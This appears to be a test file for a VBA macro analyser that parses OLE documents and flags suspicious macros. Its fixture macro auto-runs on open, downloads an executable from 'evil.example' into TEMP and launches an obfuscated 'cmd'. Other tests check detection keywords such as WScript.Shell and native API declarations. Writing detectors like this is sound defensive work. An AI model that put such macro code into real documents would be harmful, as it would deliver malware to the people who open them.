import { test } from 'node:test';
import assert from 'node:assert/strict';
import { buildOle, buildVbaDir, ovbaCompressLiteral } from '../test-support/ole-builder.js';
import { openOle } from '../ole/index.js';
import { analyzeMacros, declaresNativeApi, decompressOvba, extractVba } from './index.js';
import { cpuStopwatch } from '../../test-support/cpu-time.js';

test('MS-OVBA decompression: literal tokens and a copy token', () => {
  assert.equal(Buffer.from(decompressOvba(ovbaCompressLiteral('Attribute VB_Name = "x"'))!).toString('latin1'), 'Attribute VB_Name = "x"');
  // [MS-OVBA] §3.2.3 example: "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa" compressed.
  const example = Buffer.from(
    '01 2F B0 00 23 61 61 61 62 63 64 65 82 66 00 70 61 67 68 69 6A 01 38 08 61 6B 6C 00 30 6D 6E 6F 70 06 71 02 70 04 10 72 73 74 75 76 10 77 78 79 7A 00 3C'.replace(/ /g, ''),
    'hex',
  );
  assert.equal(Buffer.from(decompressOvba(example)!).toString('latin1'), '#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa');
  assert.equal(decompressOvba(Buffer.from([2, 3, 4])), undefined);
});

test('extracts and analyses macros from a built OLE document', () => {
  const source = [
    'Attribute VB_Name = "ThisDocument"',
    'Sub AutoOpen()',
    '  Set s = CreateObject("WScript.Shell")',
    '  URLDownloadToFile 0, "http://evil.example/a.exe", Environ("TEMP") & "\\a.exe", 0, 0',
    '  s.Run Chr(99) & Chr(109) & Chr(100)',
    'End Sub',
  ].join('\r\n');
  const ole = buildOle({
    WordDocument: Buffer.alloc(600),
    'Macros/VBA/dir': ovbaCompressLiteral(buildVbaDir([{ name: 'ThisDocument', textOffset: 10 }])),
    'Macros/VBA/_VBA_PROJECT': Buffer.from([0xcc, 0x61, 0xff, 0xff, 0, 0, 0]),
    'Macros/VBA/ThisDocument': Buffer.concat([Buffer.alloc(10, 0xaa), ovbaCompressLiteral(source)]),
  });
  const file = openOle(ole)!;
  assert.ok(file.streams.some((s) => s.path === 'Macros/VBA/dir'));
  const { modules, hasVbaProject } = extractVba(file);
  assert.ok(hasVbaProject);
  assert.equal(modules.length, 1);
  const analysis = analyzeMacros(modules);
  assert.deepEqual(analysis.autoExec, ['AutoOpen']);
  for (const s of ['CreateObject', 'WScript.Shell', 'URLDownloadToFile', 'Environ']) assert.ok(analysis.suspicious.includes(s), s);
  assert.deepEqual(analysis.urls, ['http://evil.example/a.exe']);
});

test('hostile OLE bytes never throw', () => {
  const ole = buildOle({ 'Macros/VBA/dir': ovbaCompressLiteral(buildVbaDir([{ name: 'M' }])), 'Macros/VBA/_VBA_PROJECT': Buffer.alloc(8), 'Macros/VBA/M': ovbaCompressLiteral('Attribute VB_Name = "M"\r\nSub Workbook_Open()\r\nEnd Sub') });
  let seed = 3;
  for (let i = 0; i < 1500; i++) {
    const copy = Buffer.from(ole);
    for (let k = 0; k < 10; k++) {
      seed = (seed * 1103515245 + 12345) >>> 0;
      copy[seed % copy.length] = seed >>> 24;
    }
    const file = openOle(copy.subarray(0, copy.length - (seed % 700)));
    if (file) analyzeMacros(extractVba(file).modules);
  }
});

test('Declare … Lib: the linear reading meets the pattern it replaced, and a hostile module costs linear time', () => {
  const old = /\bDeclare\s+(?:PtrSafe\s+)?(?:Function|Sub)\b[^\n]*\bLib\b/i;
  let seed = 9;
  const pick = <T>(xs: readonly T[]): T => xs[(seed = (seed * 1103515245 + 12345) & 0x7fffffff) % xs.length]!;
  const pieces = ['Declare', 'declare', ' ', '\n', 'PtrSafe', 'Function', 'Sub', 'Subx', 'Lib', 'lib', 'Libs', 'x', '"', 'MyLib', '_', '\t'];
  for (let n = 0; n < 5000; n++) {
    let code = '';
    for (let i = 0, count = 1 + (n % 16); i < count; i++) code += pick(pieces) + (n % 3 === 0 ? '' : ' ');
    assert.equal(declaresNativeApi(code), old.test(code), JSON.stringify(code));
  }
  // Before: 300 KB of 'Declare Function ' on one line took 6.6 s (quadratic).
  const cpuMs = cpuStopwatch();
  const macros = analyzeMacros([{ name: 'Module1', source: 'Declare Function '.repeat(60_000) }, { name: 'Module2', source: 'Declare PtrSafe Sub x '.repeat(50_000) }]);
  const ms = cpuMs();
  assert.ok(ms < 1500, `${ms.toFixed(0)} ms of CPU`);
  assert.ok(!macros.suspicious.includes('Declare … Lib (native API)'));
  assert.ok(analyzeMacros([{ name: 'M', source: `${'Declare Function '.repeat(1000)}\nPrivate Declare PtrSafe Function VirtualProtect Lib "kernel32" ()` }]).suspicious.includes('Declare … Lib (native API)'));
});
